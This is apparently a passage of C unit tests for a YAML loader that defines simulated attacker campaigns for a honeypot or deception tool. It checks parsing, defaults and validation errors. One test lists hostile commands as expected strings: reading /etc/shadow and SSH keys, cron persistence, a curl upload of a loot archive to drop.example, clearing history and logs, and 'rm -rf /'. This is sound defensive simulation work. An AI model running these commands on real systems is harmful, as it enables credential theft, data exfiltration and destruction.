    s_assert_days(&k->actors[0], 7, 5);
    s_assert_days(&k->actors[1], 35, 5);
    s_assert_days(&k->actors[2], 75, 5);
    for (size_t i = 0; i < 3; i++) {
        assert_int_equal(k->actors[i].asn, 64540 + (int64_t)i);
        s_assert_hours(&k->actors[i], 3, 3);
    }
    assert_int_equal(k->n_phases, 7);
    s_assert_phase(&k->phases[0], UKC_DELIVERY, 0, 3, 1.0);
    s_assert_phase(&k->phases[3], UKC_PERSISTENCE, 1, 2, 10.0);
    assert_true(k->phases[3].previous_success);
    s_assert_phase(&k->phases[6], UKC_EXFILTRATION, 2, 2, 10.0);
    assert_string_equal(k->phases[2].payload_hash,
                        "a6423fd611d508e0575b846c0324dd6afee7e96e04242112a8f5667cb0e11920");
    dsl_corpus_destroy(&c);
}

static void
test_fixture_noise_floor(void **state)
{
    (void)state;
    char *path = s_fixture("noise_floor.yaml");
    dsl_corpus_t *c = NULL;
    char err[512];
    assert_int_equal(dsl_load_file(path, &c, err, sizeof err), 0);
    static const char *const ids[6] = {"shared-wordlist-A",   "shared-wordlist-B",
                                       "vpn-hopping-001",     "lone-wolf-001",
                                       "paused-campaign-001", "multi-operator-001"};
    static const char *const files[6] = {"noise_floor.yaml",     "shared_wordlist.yaml",
                                         "vpn_hopping.yaml",     "lone_wolf.yaml",
                                         "paused_campaign.yaml", "multi_operator.yaml"};
    assert_int_equal(c->n_campaigns, 6);
    assert_int_equal(c->noise_scanners, 18);
    assert_int_equal(c->n_warnings, 0);
    assert_int_equal(c->n_files, 6);
    for (size_t i = 0; i < 6; i++) {
        char *want = s_fixture(files[i]);
        assert_string_equal(c->files[i], want);
        free(want);
    }
    for (size_t i = 0; i < 6; i++) {
        assert_string_equal(c->campaigns[i].id, ids[i]);
        const char *file = c->campaigns[i].mark.file;
        assert_string_equal(file, c->files[i == 0 ? 1 : i]);
    }
    size_t actors = 0;
    for (size_t i = 0; i < c->n_campaigns; i++) {
        actors += c->campaigns[i].n_actors;
    }
    assert_int_equal(actors, 8);
    assert_int_equal(c->campaigns[2].actors[0].rotation_count, 5);
    dsl_corpus_destroy(&c);
    free(path);
}

/*  Every spec in the fixture directory loads without error or warning. */
static void
test_fixture_all_specs(void **state)
{
    (void)state;
    char *dir_path = s_fixture("");
    DIR *dir = opendir(dir_path);
    assert_non_null(dir);
    size_t specs = 0;
    struct dirent *e;
    while ((e = readdir(dir)) != NULL) {
        size_t n = strlen(e->d_name);
        if (n < 5 || strcmp(e->d_name + n - 5, ".yaml") != 0 ||
            strstr(e->d_name, ".expected.") != NULL) {
            continue;
        }
        char *path = xasprintf("%s%s", dir_path, e->d_name);
        dsl_corpus_t *c = NULL;
        char err[512];
        int rc = dsl_load_file(path, &c, err, sizeof err);
        if (rc != 0) {
            print_error("%s\n", err);
        }
        assert_int_equal(rc, 0);
        assert_true(c->n_campaigns >= 1);
        assert_int_equal(c->n_warnings, 0);
        dsl_corpus_destroy(&c);
        free(path);
        specs++;
    }
    closedir(dir);
    free(dir_path);
    assert_int_equal(specs, 7);
}

/* ----------------------------------------------------------------------------------------
   DSL: defaults and values */

static void
test_dsl_default_commands(void **state)
{
    (void)state;
    size_t n = 99;
    const char *const *cmd = dsl_default_commands(UKC_DISCOVERY, &n);
    static const char *const discovery[] = {"whoami",   "id",     "uname -a",
                                            "ip route", "arp -a", "cat /etc/passwd"};
    assert_int_equal(n, 6);
    for (size_t i = 0; i < n; i++) {
        assert_string_equal(cmd[i], discovery[i]);
    }
    cmd = dsl_default_commands(UKC_CREDENTIAL_ACCESS, &n);
    assert_int_equal(n, 3);
    assert_string_equal(cmd[0], "cat /etc/shadow");
    assert_string_equal(cmd[1], "find / -name id_rsa");
    assert_string_equal(cmd[2], "cat ~/.ssh/known_hosts");
    cmd = dsl_default_commands(UKC_PERSISTENCE, &n);
    assert_int_equal(n, 3);
    assert_string_equal(cmd[0], "crontab -l");
    assert_string_equal(cmd[1], "echo '* * * * * /tmp/.x' | crontab -");
    assert_string_equal(cmd[2], "cat ~/.ssh/authorized_keys");
    cmd = dsl_default_commands(UKC_LATERAL_MOVEMENT, &n);
    assert_int_equal(n, 2);
    assert_string_equal(cmd[0], "ssh -i /tmp/.k root@10.0.0.5");
    assert_string_equal(cmd[1], "scp /tmp/.x root@10.0.0.5:/tmp/");
    cmd = dsl_default_commands(UKC_COLLECTION, &n);
    assert_int_equal(n, 1);
    assert_string_equal(cmd[0], "tar czf /tmp/loot.tgz /var/lib/mysql /home");
    cmd = dsl_default_commands(UKC_EXFILTRATION, &n);
    assert_int_equal(n, 1);
    assert_string_equal(cmd[0], "curl -T /tmp/loot.tgz https://drop.example/");
    cmd = dsl_default_commands(UKC_EXECUTION, &n);
    assert_int_equal(n, 1);
    assert_string_equal(cmd[0], "./payload");
    cmd = dsl_default_commands(UKC_PRIVILEGE_ESCALATION, &n);
    assert_int_equal(n, 2);
    assert_string_equal(cmd[0], "sudo -l");
    assert_string_equal(cmd[1], "find / -perm -u=s 2>/dev/null");
    cmd = dsl_default_commands(UKC_DEFENSE_EVASION, &n);
    assert_int_equal(n, 2);
    assert_string_equal(cmd[0], "history -c");
    assert_string_equal(cmd[1], "rm -rf /var/log/wtmp");
    cmd = dsl_default_commands(UKC_IMPACT, &n);
    assert_int_equal(n, 1);
    assert_string_equal(cmd[0], "rm -rf /");
    static const ukc_phase_t none[] = {
        UKC_DELIVERY,      UKC_EXPLOITATION,         UKC_COMMAND_AND_CONTROL,
        UKC_PIVOTING,      UKC_OBJECTIVES,           UKC_RECONNAISSANCE,
        UKC_WEAPONIZATION, UKC_RESOURCE_DEVELOPMENT, UKC_SOCIAL_ENGINEERING,
        UKC_NONE};
    for (size_t i = 0; i < sizeof none / sizeof none[0]; i++) {
        n = 99;
        assert_null(dsl_default_commands(none[i], &n));
        assert_int_equal(n, 0);
    }
}

static void
test_dsl_defaults(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_ok("campaign:\n"
                                "  id: c\n"
                                "  actors: [{id: a}]\n"
                                "  phases: [{name: execution}]\n");
    assert_int_equal(c->n_campaigns, 1);
    assert_int_equal(c->noise_scanners, 0);
    assert_int_equal(c->n_warnings, 0);
    assert_int_equal(c->n_files, 1);
    assert_string_equal(c->files[0], "t.yaml");
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_ptr_equal(k->mark.file, c->files[0]);
    assert_int_equal(k->mark.line, 2);
    assert_int_equal(k->mark.column, 3);
    assert_int_equal(k->duration_days, 1);
    assert_int_equal(k->n_pauses, 0);
    assert_null(k->pauses);
    const dsl_actor_t *a = &k->actors[0];
    assert_int_equal(a->mark.line, 3);
    assert_int_equal(a->mark.column, 12);
    assert_int_equal(a->asn, 0);
    assert_false(a->rotating);
    assert_int_equal(a->rotation_count, 1);
    assert_null(a->rotation_asns);
    assert_int_equal(a->n_rotation_asns, 0);
    assert_null(a->ja3);
    assert_null(a->hassh);
    s_assert_hours(a, 0, 24);
    assert_int_equal(a->jitter, 60);
    assert_false(a->has_active_days);
    assert_int_equal(a->n_active_days, 0);
    assert_false(a->has_kd);
    const dsl_phase_t *p = &k->phases[0];
    s_assert_phase(p, UKC_EXECUTION, 0, 1, 5.0);
    assert_int_equal(p->mark.line, 4);
    assert_int_equal(p->mark.column, 12);
    assert_false(p->has_commands);
    assert_int_equal(p->n_commands, 0);
    assert_int_equal(p->n_creds, 0);
    assert_null(p->c2);
    assert_null(p->payload_hash);
    assert_false(p->previous_success);
    dsl_corpus_destroy(&c);
    dsl_corpus_destroy(&c); /* NULL is a no-op */
}

/*  Explicit nulls on optional keys behave as absent keys. */
static void
test_dsl_nulls(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_doc_ok("      asn: null\n      ip_pool: ~\n      rotation_count:\n"
                               "      rotation_asns: null\n      ja3: null\n      hassh: ~\n"
                               "      hours_active_utc: null\n      jitter_seconds: null\n"
                               "      active_days: null\n      kd_simhash: null\n",
                               "      actor: null\n      tool_signature: {commands: null, "
                               "credentials: null, c2_callback: null, payload_hash: null}\n"
                               "      target_selector: {count: null, decky: null}\n"
                               "      dwell_seconds: null\n",
                               "  duration_days: null\n  pause_windows: null\n");
    const dsl_actor_t *a = &c->campaigns[0].actors[0];
    assert_int_equal(a->asn, 0);
    assert_false(a->rotating);
    assert_int_equal(a->rotation_count, 1);
    assert_null(a->rotation_asns);
    assert_null(a->ja3);
    assert_int_equal(a->n_hours, 24);
    assert_int_equal(a->jitter, 60);
    assert_false(a->has_active_days);
    assert_false(a->has_kd);
    const dsl_phase_t *p = &c->campaigns[0].phases[0];
    s_assert_phase(p, UKC_DELIVERY, 0, 1, 5.0);
    assert_false(p->has_commands);
    assert_int_equal(p->n_creds, 0);
    assert_null(p->c2);
    assert_null(p->payload_hash);
    assert_int_equal(c->campaigns[0].duration_days, 1);
    assert_int_equal(c->campaigns[0].n_pauses, 0);
    dsl_corpus_destroy(&c);

    c = s_load_ok("corpus:\n  campaigns: null\n  noise: null\n");
    assert_int_equal(c->n_campaigns, 0);
    assert_int_equal(c->noise_scanners, 0);
    dsl_corpus_destroy(&c);
    c = s_load_ok("corpus:\n  noise:\n    scanner_count: null\n");
    assert_int_equal(c->noise_scanners, 0);
    dsl_corpus_destroy(&c);
    c = s_load_ok("corpus: {}\n");
    assert_int_equal(c->n_campaigns, 0);
    dsl_corpus_destroy(&c);
}

static void
test_dsl_values(void **state)
{
    (void)state;
    dsl_corpus_t *c = s_load_ok(
        "campaign:\n"
        "  id: 12345\n"
        "  duration_days: 0x10\n"
        "  pause_windows: [[1, 2], [5, 3], [-4, 0]]\n"
        "  actors:\n"
        "    - id: 2026-01-01\n"
        "      asn: 4294967295\n"
        "      ip_pool: rotating\n"
        "      rotation_count: 3\n"
        "      rotation_asns: [7, 8]\n"
        "      ja3: 771\n"
        "      hassh: yes\n"
        "      hours_active_utc: [23, 0, 0]\n"
        "      jitter_seconds: 0\n"
        "      active_days: [3, 1, 3, 99, -1]\n"
        "      kd_simhash: 00ff00ff00ff00ff\n"
        "      role: ignored\n"
        "    - id: \"b\"\n"
        "      ip_pool: sticky\n"
        "      rotation_count: 4\n"
        "      active_days: []\n"
        "      kd_simhash: 1234567812345678\n"
        "    - id: c\n"
        "      ip_pool: tor\n"
        "      kd_simhash: 42\n"
        "  phases:\n"
        "    - name: discovery\n"
        "      actor: b\n"
        "      unknown_key: [1, 2]\n"
        "      tool_signature:\n"
        "        commands: [ls, 1.5, true, \"\", 'multi word']\n"
        "        credentials: [[admin, 12345], [root, \"\"], [~x, 0x1F]]\n"
        "        c2_callback: 10.0.0.1:443\n"
        "        payload_hash: \"\"\n"
        "      target_selector: {decky: previous_success, count: -2, service: ssh, port: 22}\n"
        "      dwell_seconds: 2\n"
        "    - name: impact\n"
        "      actor: 2026-01-01\n"
        "      tool_signature: {commands: [], payload_hash: '12345'}\n"
        "      target_selector: {decky: decky-01}\n"
        "      dwell_seconds: .5\n"
        "    - name: pivoting\n"
        "      actor: c\n"
        "      target_selector: {decky: \"previous_success\", count: 0}\n"
        "      dwell_seconds: 0\n");
    const dsl_campaign_t *k = &c->campaigns[0];
    assert_string_equal(k->id, "12345");
    assert_int_equal(k->duration_days, 16);
    assert_int_equal(k->n_pauses, 3);
    assert_int_equal(k->pauses[1].start, 5);
    assert_int_equal(k->pauses[1].end, 3);
    assert_int_equal(k->pauses[2].start, -4);
    const dsl_actor_t *a = &k->actors[0];
    assert_string_equal(a->id, "2026-01-01");
    assert_int_equal(a->asn, 4294967295);
    assert_true(a->rotating);
    assert_int_equal(a->rotation_count, 3);
    assert_int_equal(a->n_rotation_asns, 2);
    assert_int_equal(a->rotation_asns[1], 8);
    assert_string_equal(a->ja3, "771");
    assert_string_equal(a->hassh, "yes");
    assert_int_equal(a->n_hours, 3);
    assert_int_equal(a->hours[0], 23);
    assert_int_equal(a->jitter, 0);
    assert_true(a->has_active_days);
    assert_int_equal(a->n_active_days, 5);
    static const int64_t days[5] = {3, 1, 3, 99, -1};
    for (size_t i = 0; i < 5; i++) {
        assert_int_equal(a->active_days[i], days[i]);
    }
    assert_true(a->has_kd);
    assert_true(a->kd_simhash == 0x00ff00ff00ff00ffu);
    const dsl_actor_t *b = &k->actors[1];
    assert_string_equal(b->id, "b");
    assert_false(b->rotating);
    assert_int_equal(b->rotation_count, 4);
    assert_true(b->has_active_days); /* [] is a list: no day qualifies, as in DECNET */
    assert_int_equal(b->n_active_days, 0);
    assert_true(b->kd_simhash == 0x1234567812345678u);
    assert_false(k->actors[2].rotating);
    assert_true(k->actors[2].kd_simhash == 42);

    const dsl_phase_t *p = &k->phases[0];
    s_assert_phase(p, UKC_DISCOVERY, 1, -2, 2.0);
    assert_true(p->previous_success);
    assert_true(p->has_commands);
    assert_int_equal(p->n_commands, 5);
    static const char *const cmds[5] = {"ls", "1.5", "true", "", "multi word"};
    for (size_t i = 0; i < 5; i++) {
        assert_string_equal(p->commands[i], cmds[i]);
    }
    assert_int_equal(p->n_creds, 3);
    assert_string_equal(p->creds[0].pass, "12345");
    assert_string_equal(p->creds[1].pass, "");
    assert_string_equal(p->creds[2].user, "~x");
    assert_string_equal(p->creds[2].pass, "0x1F");
    assert_string_equal(p->c2, "10.0.0.1:443");
    assert_null(p->payload_hash); /* an empty seed means no payload, as in DECNET */
    p = &k->phases[1];
    s_assert_phase(p, UKC_IMPACT, 0, 1, 0.5);
    assert_false(p->previous_success);
    assert_true(p->has_commands);
    assert_int_equal(p->n_commands, 0);
    assert_string_equal(p->payload_hash,
                        "5994471abb01112afcc18159f6cc74b4f511b99806da59b3caf5a9c173cacfc5");
    p = &k->phases[2];
    s_assert_phase(p, UKC_PIVOTING, 2, 0, 0.0);
    assert_true(p->previous_success);
    dsl_corpus_destroy(&c);
}

static void
test_dsl_warnings(void **state)
{
    (void)state;
    char *path = s_testdata("warnings.yaml");
    dsl_corpus_t *c = NULL;
    char err[512];
    assert_int_equal(dsl_load_file(path, &c, err, sizeof err), 0);
    assert_int_equal(c->n_campaigns, 1);
    assert_int_equal(c->campaigns[0].n_phases, 3);
    assert_int_equal(c->campaigns[0].phases[0].phase, UKC_RECONNAISSANCE);
    assert_int_equal(c->n_warnings, 3);
    char *want = xasprintf("%s:2:1: top-level 'campaign' ignored: 'corpus' takes precedence", path);
    assert_string_equal(c->warnings[0], want);
    free(want);
    want = xasprintf("%s:9:13: phase[0] 'reconnaissance' is not observable and emits no sessions",
                     path);
    assert_string_equal(c->warnings[1], want);
    free(want);
    assert_non_null(strstr(c->warnings[2], ":11:13: phase[2] 'weaponization' is not observable"));
    dsl_corpus_destroy(&c);
    free(path);

    c = s_load_ok("include_fixtures: []\ncampaign: {id: x}\nextra_noise_scanners: 4\n");
    assert_int_equal(c->n_campaigns, 0);
    assert_int_equal(c->noise_scanners, 4);
    assert_int_equal(c->n_warnings, 1);
    assert_non_null(strstr(c->warnings[0], "'include_fixtures' takes precedence"));
    dsl_corpus_destroy(&c);
}

/* ----------------------------------------------------------------------------------------
   DSL: validation errors */

static void
test_dsl_shape_errors(void **state)
{
    (void)state;
    s_fail_dsl("- a\n- b\n", "t.yaml:1:1: the document must be a mapping");
    s_fail_dsl("just text\n", "did not parse to a mapping: a string ('just text')");
    s_fail_dsl("---\n", "did not parse to a mapping: null");
    s_fail_dsl("", "t.yaml:1:1: no YAML document");
    s_fail_dsl("foo: 1\n", "t.yaml:1:1: missing top-level 'campaign'");
    s_fail_dsl("a: [1\n", "t.yaml:2:1: did not find expected ',' or ']'");
    s_fail_dsl("campaign: null\n", "t.yaml:1:11: 'campaign' must be a mapping, not null");
    s_fail_dsl("campaign: [1]\n", "'campaign' must be a mapping, not a sequence");
    s_fail_dsl("corpus: 5\n", "t.yaml:1:9: 'corpus' must be a mapping, not an integer (5)");
    s_fail_dsl("corpus: {campaigns: {}}\n", "corpus 'campaigns' must be a sequence, not a mapping");
    s_fail_dsl("corpus:\n  campaigns:\n    - {id: x}\n",
               "t.yaml:3:7: corpus 'campaigns' item 0: missing top-level 'campaign' key");
    s_fail_dsl("corpus:\n  campaigns:\n    - x\n",
               "corpus 'campaigns' item 0 must be a mapping, not a string ('x')");
    s_fail_dsl("corpus: {noise: 3}\n", "corpus 'noise' must be a mapping, not an integer (3)");
    s_fail_dsl("corpus: {noise: {scanner_count: -1}}\n",
               "t.yaml:1:33: noise 'scanner_count' must be between 0 and 1000000, got -1");
    s_fail_dsl("corpus: {noise: {scanner_count: many}}\n",
               "noise 'scanner_count' must be an integer, not a string ('many')");
    s_fail_dsl("include_fixtures: 5\n",
               "t.yaml:1:19: 'include_fixtures' must be a sequence, not an integer (5)");
    s_fail_dsl("include_fixtures: null\n", "'include_fixtures' must be a sequence, not null");
    s_fail_dsl("include_fixtures: [[a]]\n",
               "include_fixtures item 0 must be a string, not a sequence");
    s_fail_dsl("include_fixtures: ['']\n", "include_fixtures item 0 must not be empty");
    s_fail_dsl("include_fixtures: []\nextra_noise_scanners: -1\n",
               "t.yaml:2:23: document 'extra_noise_scanners' must be between 0 and 1000000, got "
               "-1");
    s_fail_dsl("include_fixtures: []\nextra_noise_scanners: 1.5\n",
               "document 'extra_noise_scanners' must be an integer, not a float (1.5)");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: []}\nnoise: 1\ncampaign: {}\n",
               "t.yaml:3:1: duplicate mapping key 'campaign'");
}

static void
test_dsl_campaign_errors(void **state)
{
    (void)state;
    s_fail_dsl("campaign:\n  actors: []\n  phases: []\n",
               "t.yaml:2:3: campaign missing required key: id");
    s_fail_dsl("campaign:\n  id: x\n  phases: []\n", "campaign missing required key: actors");
    s_fail_dsl("campaign:\n  id: x\n  actors: [{id: a}]\n",
               "campaign missing required key: phases");
    s_fail_dsl("campaign: {}\n", "t.yaml:1:11: campaign missing required key: id");
    s_fail_dsl("campaign:\n  id: x\n  actors: []\n  phases: []\n",
               "t.yaml:3:11: campaign must declare at least one actor (empty actor list)");
    s_fail_dsl("campaign: {id: ~, actors: [{id: a}], phases: []}\n",
               "t.yaml:1:16: campaign 'id' must be a string, not null");
    s_fail_dsl("campaign: {id: '', actors: [{id: a}], phases: []}\n",
               "campaign 'id' must not be empty");
    s_fail_dsl("campaign: {id: \"a\\0b\", actors: [{id: a}], phases: []}\n",
               "campaign 'id' contains a NUL character");
    s_fail_dsl("campaign: {id: x, actors: {id: a}, phases: []}\n",
               "campaign 'actors' must be a sequence, not a mapping");
    s_fail_dsl("campaign: {id: x, actors: null, phases: []}\n",
               "campaign 'actors' must be a sequence, not null");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: {}}\n",
               "campaign 'phases' must be a sequence, not a mapping");
    s_doc_fail("", "", "  duration_days: -1\n",
               "t.yaml:7:18: campaign 'duration_days' must be between 0 and 100000, got -1");
    s_doc_fail("", "", "  duration_days: 1.5\n",
               "campaign 'duration_days' must be an integer, not a float (1.5)");
    s_doc_fail("", "", "  pause_windows: [[1]]\n",
               "t.yaml:7:19: campaign 'pause_windows' item 0 must be a [start, end] pair, not 1 "
               "items");
    s_doc_fail("", "", "  pause_windows: [3]\n",
               "campaign 'pause_windows' item 0 must be a [start, end] pair, not an integer (3)");
    s_doc_fail("", "", "  pause_windows: [[1, x]]\n",
               "campaign 'pause_windows' item 0 end must be an integer, not a string ('x')");
    s_doc_fail("", "", "  pause_windows: {a: 1}\n",
               "campaign 'pause_windows' must be a sequence, not a mapping");
    char *y = xasprintf("campaign: {id: %0300d, actors: [{id: a}], phases: []}\n", 7);
    dsl_corpus_t *c = s_load_ok(y); /* 300 bytes is within OBS_MAX_SHORT */
    dsl_corpus_destroy(&c);
    free(y);
    y = xasprintf("campaign: {id: %01100d, actors: [{id: a}], phases: []}\n", 7);
    s_fail_dsl(y, "campaign 'id' is longer than 1024 bytes");
    free(y);
}

static void
test_dsl_actor_errors(void **state)
{
    (void)state;
    s_fail_dsl("campaign: {id: x, actors: [{asn: 1}], phases: []}\n",
               "t.yaml:1:28: actor[0] missing required key: id");
    s_fail_dsl("campaign: {id: x, actors: [a], phases: []}\n",
               "actor[0] must be a mapping, not a string ('a')");
    s_fail_dsl("campaign: {id: x, actors: [{id: null}], phases: []}\n",
               "actor[0] 'id' must be a string, not null");
    s_fail_dsl("campaign: {id: x, actors: [{id: [a]}], phases: []}\n",
               "actor[0] 'id' must be a string, not a sequence");
    s_doc_fail("      asn: abc\n", "", "",
               "t.yaml:5:12: actor[0] 'asn' must be an integer, not a string ('abc')");
    s_doc_fail("      asn: yes\n", "", "",
               "actor[0] 'asn' must be an integer, not a boolean (yes)");
    s_doc_fail("      asn: -1\n", "", "",
               "actor[0] 'asn' must be between 0 and 4294967295, got -1");
    s_doc_fail("      asn: 99999999999999999999\n", "", "",
               "actor[0] 'asn' must be between 0 and 4294967295, got 99999999999999999999");
    s_doc_fail("      ip_pool: {kind: rotating}\n", "", "",
               "actor[0] 'ip_pool' must be a string, not a mapping");
    s_doc_fail("      rotation_count: 0\n", "", "",
               "actor[0] 'rotation_count' must be between 1 and 100000, got 0");
    s_doc_fail("      rotation_count: '5'\n", "", "",
               "actor[0] 'rotation_count' must be an integer, not a string ('5')");
    s_doc_fail("      rotation_asns: 64512\n", "", "",
               "actor[0] 'rotation_asns' must be a sequence, not an integer (64512)");
    s_doc_fail("      rotation_asns: [1, x]\n", "", "",
               "t.yaml:5:26: actor[0] 'rotation_asns' item 1 must be an integer, not a string");
    s_doc_fail("      ja3: [a]\n", "", "", "actor[0] 'ja3' must be a string, not a sequence");
    s_doc_fail("      hassh: {a: b}\n", "", "", "actor[0] 'hassh' must be a string, not a mapping");
    s_doc_fail("      hours_active_utc: 5\n", "", "",
               "t.yaml:5:25: actor[0] 'hours_active_utc' must be a sequence, not an integer (5)");
    s_doc_fail("      hours_active_utc: [1, 24]\n", "", "",
               "t.yaml:5:29: actor[0] 'hours_active_utc' item 1 must be between 0 and 23, got 24");
    s_doc_fail("      hours_active_utc: [-1]\n", "", "",
               "'hours_active_utc' item 0 must be between 0 and 23, got -1");
    s_doc_fail("      hours_active_utc: [1.0]\n", "", "",
               "'hours_active_utc' item 0 must be an integer, not a float (1.0)");
    s_doc_fail("      hours_active_utc: []\n", "", "",
               "t.yaml:5:25: actor[0] 'hours_active_utc' must not be empty");
    s_doc_fail("      jitter_seconds: 1.5\n", "", "",
               "actor[0] 'jitter_seconds' must be an integer, not a float (1.5)");
    s_doc_fail("      jitter_seconds: -1\n", "", "",
               "actor[0] 'jitter_seconds' must be between 0 and 1000000000, got -1");
    s_doc_fail("      active_days: 3\n", "", "", "actor[0] 'active_days' must be a sequence");
    s_doc_fail("      active_days: [1, two]\n", "", "",
               "actor[0] 'active_days' item 1 must be an integer, not a string ('two')");
    s_doc_fail("      kd_simhash: xyz\n", "", "",
               "actor[0] 'kd_simhash' must be 16 hex digits or an integer, not a string ('xyz')");
    s_doc_fail("      kd_simhash: 00ff00ff00ff00ff0\n", "", "",
               "actor[0] 'kd_simhash' must be 16 hex digits or an integer");
    s_doc_fail("      kd_simhash: -1\n", "", "",
               "actor[0] 'kd_simhash' must be between 0 and 2^64-1, got -1");
    s_doc_fail("      kd_simhash: 1.5\n", "", "",
               "'kd_simhash' must be 16 hex digits or an integer, not a float (1.5)");
    s_doc_fail("      kd_simhash: [1]\n", "", "",
               "'kd_simhash' must be 16 hex digits or an integer, not a sequence");

    /* Duplicate actor ids: reported at the second occurrence, naming the first. */
    char *path = s_testdata("duplicate_actor.yaml");
    dsl_corpus_t *c = NULL;
    char err[512];
    assert_int_equal(dsl_load_file(path, &c, err, sizeof err), CADRE_EDSL);
    assert_null(c);
    char *want = xasprintf("%s:8:7: actor[2] duplicates actor id 'twin' (first at line 5, column "
                           "7)",
                           path);
    assert_string_equal(err, want);
    free(want);
    free(path);
    s_fail_dsl("campaign: {id: x, actors: [{id: 1}, {id: '1'}], phases: []}\n",
               "actor[1] duplicates actor id '1'");
}

static void
test_dsl_phase_errors(void **state)
{
    (void)state;
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{actor: a}]}\n",
               "t.yaml:1:47: phase[0] missing 'name'");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: delivery}, {name: lunch}]}\n",
               "t.yaml:1:72: phase[1] has unknown UKC phase 'lunch'");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: Delivery}]}\n",
               "phase[0] has unknown UKC phase 'Delivery'");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: null}]}\n",
               "phase[0] 'name' must be a string, not null");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: [delivery]}]}\n",
               "phase[0] 'name' must be a string, not a sequence");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [delivery]}\n",
               "phase[0] must be a mapping, not a string ('delivery')");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: delivery, actor: ghost}]}\n",
               "t.yaml:1:71: phase[0] references unknown actor 'ghost'");
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: delivery, actor: [a]}]}\n",
               "phase[0] 'actor' must be a string, not a sequence");
    s_doc_fail("", "      tool_signature: 5\n", "",
               "t.yaml:7:23: phase[0] 'tool_signature' must be a mapping, not an integer (5)");
    s_doc_fail("", "      tool_signature: {commands: ls}\n", "",
               "phase[0] tool_signature 'commands' must be a sequence, not a string ('ls')");
    s_doc_fail("", "      tool_signature: {commands: [ls, [a]]}\n", "",
               "phase[0] tool_signature 'commands' item 1 must be a string, not a sequence");
    s_doc_fail("", "      tool_signature: {commands: [ls, null]}\n", "",
               "phase[0] tool_signature 'commands' item 1 must be a string, not null");
    s_doc_fail("", "      tool_signature: {credentials: [[a]]}\n", "",
               "t.yaml:7:38: phase[0] tool_signature 'credentials' item 0 must be a [user, "
               "password] pair, not 1 items");
    s_doc_fail("", "      tool_signature: {credentials: [[a, b, c]]}\n", "",
               "'credentials' item 0 must be a [user, password] pair, not 3 items");
    s_doc_fail("", "      tool_signature: {credentials: [admin]}\n", "",
               "'credentials' item 0 must be a [user, password] pair, not a string ('admin')");
    s_doc_fail("", "      tool_signature: {credentials: {admin: admin}}\n", "",
               "'credentials' must be a sequence, not a mapping");
    s_doc_fail("", "      tool_signature: {credentials: [[a, [b]]]}\n", "",
               "'credentials' item 0 password must be a string, not a sequence");
    s_doc_fail("", "      tool_signature: {credentials: [[~, b]]}\n", "",
               "'credentials' item 0 user must be a string, not null");
    s_doc_fail("", "      tool_signature: {c2_callback: [x]}\n", "",
               "phase[0] tool_signature 'c2_callback' must be a string, not a sequence");
    s_doc_fail("", "      tool_signature: {payload_hash: 12345}\n", "",
               "t.yaml:7:38: phase[0] tool_signature 'payload_hash' must be a string seed, not "
               "an integer (12345)");
    s_doc_fail("", "      tool_signature: {payload_hash: true}\n", "",
               "'payload_hash' must be a string seed, not a boolean (true)");
    s_doc_fail("", "      tool_signature: {payload_hash: 2026-01-01}\n", "",
               "'payload_hash' must be a string seed, not a timestamp (2026-01-01)");
    s_doc_fail("", "      target_selector: [1]\n", "",
               "phase[0] 'target_selector' must be a mapping, not a sequence");
    s_doc_fail("", "      target_selector: {count: x}\n", "",
               "t.yaml:7:32: phase[0] target_selector 'count' must be an integer, not a string");
    s_doc_fail("", "      target_selector: {count: 1.5}\n", "",
               "phase[0] target_selector 'count' must be an integer, not a float (1.5)");
    s_doc_fail("", "      target_selector: {count: 100001}\n", "",
               "phase[0] target_selector 'count' must be <= 100000, got 100001");
    s_doc_fail("", "      target_selector: {decky: [previous_success]}\n", "",
               "phase[0] target_selector 'decky' must be a string, not a sequence");
    s_doc_fail("", "      dwell_seconds: abc\n", "",
               "t.yaml:7:22: phase[0] 'dwell_seconds' must be a number, not a string ('abc')");
    s_doc_fail("", "      dwell_seconds: true\n", "",
               "phase[0] 'dwell_seconds' must be a number, not a boolean (true)");
    s_doc_fail("", "      dwell_seconds: -1\n", "",
               "phase[0] 'dwell_seconds' must be a finite number >= 0, got -1");
    s_doc_fail("", "      dwell_seconds: .nan\n", "",
               "phase[0] 'dwell_seconds' must be a finite number >= 0, got .nan");
    s_doc_fail("", "      dwell_seconds: .inf\n", "",
               "phase[0] 'dwell_seconds' must be a finite number >= 0, got .inf");
    s_doc_fail("", "      dwell_seconds: 0x1ffffffffffffffff\n", "",
               "phase[0] 'dwell_seconds' must be a number, not an integer");
    /* A warning emitted before a later error is freed with the partial corpus. */
    s_fail_dsl("campaign: {id: x, actors: [{id: a}], phases: [{name: weaponization}, "
               "{name: delivery, dwell_seconds: -2}]}\n",
               "phase[1] 'dwell_seconds' must be a finite number >= 0, got -2");
}

/* ----------------------------------------------------------------------------------------
   DSL: files and includes */

/*  Loads TESTDATA_DIR/dsl/name expecting rc and the message "<file>:<tail>" where file is
    TESTDATA_DIR/dsl/file_name. */
static void
s_file_fail(const char *name, int rc, const char *file_name, const char *tail)
{
    char *path = s_testdata(name);
    char *file = s_testdata(file_name);
    char *want = xasprintf("%s:%s", file, tail);
    dsl_corpus_t *c = NULL;
    char err[1024];
    int got = dsl_load_file(path, &c, err, sizeof err);
    if (got != rc || strstr(err, want) == NULL) {
        print_error("rc %d (want %d), message \"%s\" (want \"%s\")\n", got, rc, err, want);
    }
    assert_int_equal(got, rc);
    assert_null(c);
    assert_non_null(strstr(err, want));
    free(want);
    free(file);
    free(path);
}

static void
test_dsl_invalid_files(void **state)
{
    (void)state;
    s_file_fail("unknown_phase.yaml", CADRE_EDSL, "unknown_phase.yaml",
                "8:13: phase[1] has unknown UKC phase 'lunch_break'");
    s_file_fail("missing_actors.yaml", CADRE_EDSL, "missing_actors.yaml",
                "3:3: campaign missing required key: actors");
    s_file_fail("empty_actors.yaml", CADRE_EDSL, "empty_actors.yaml",
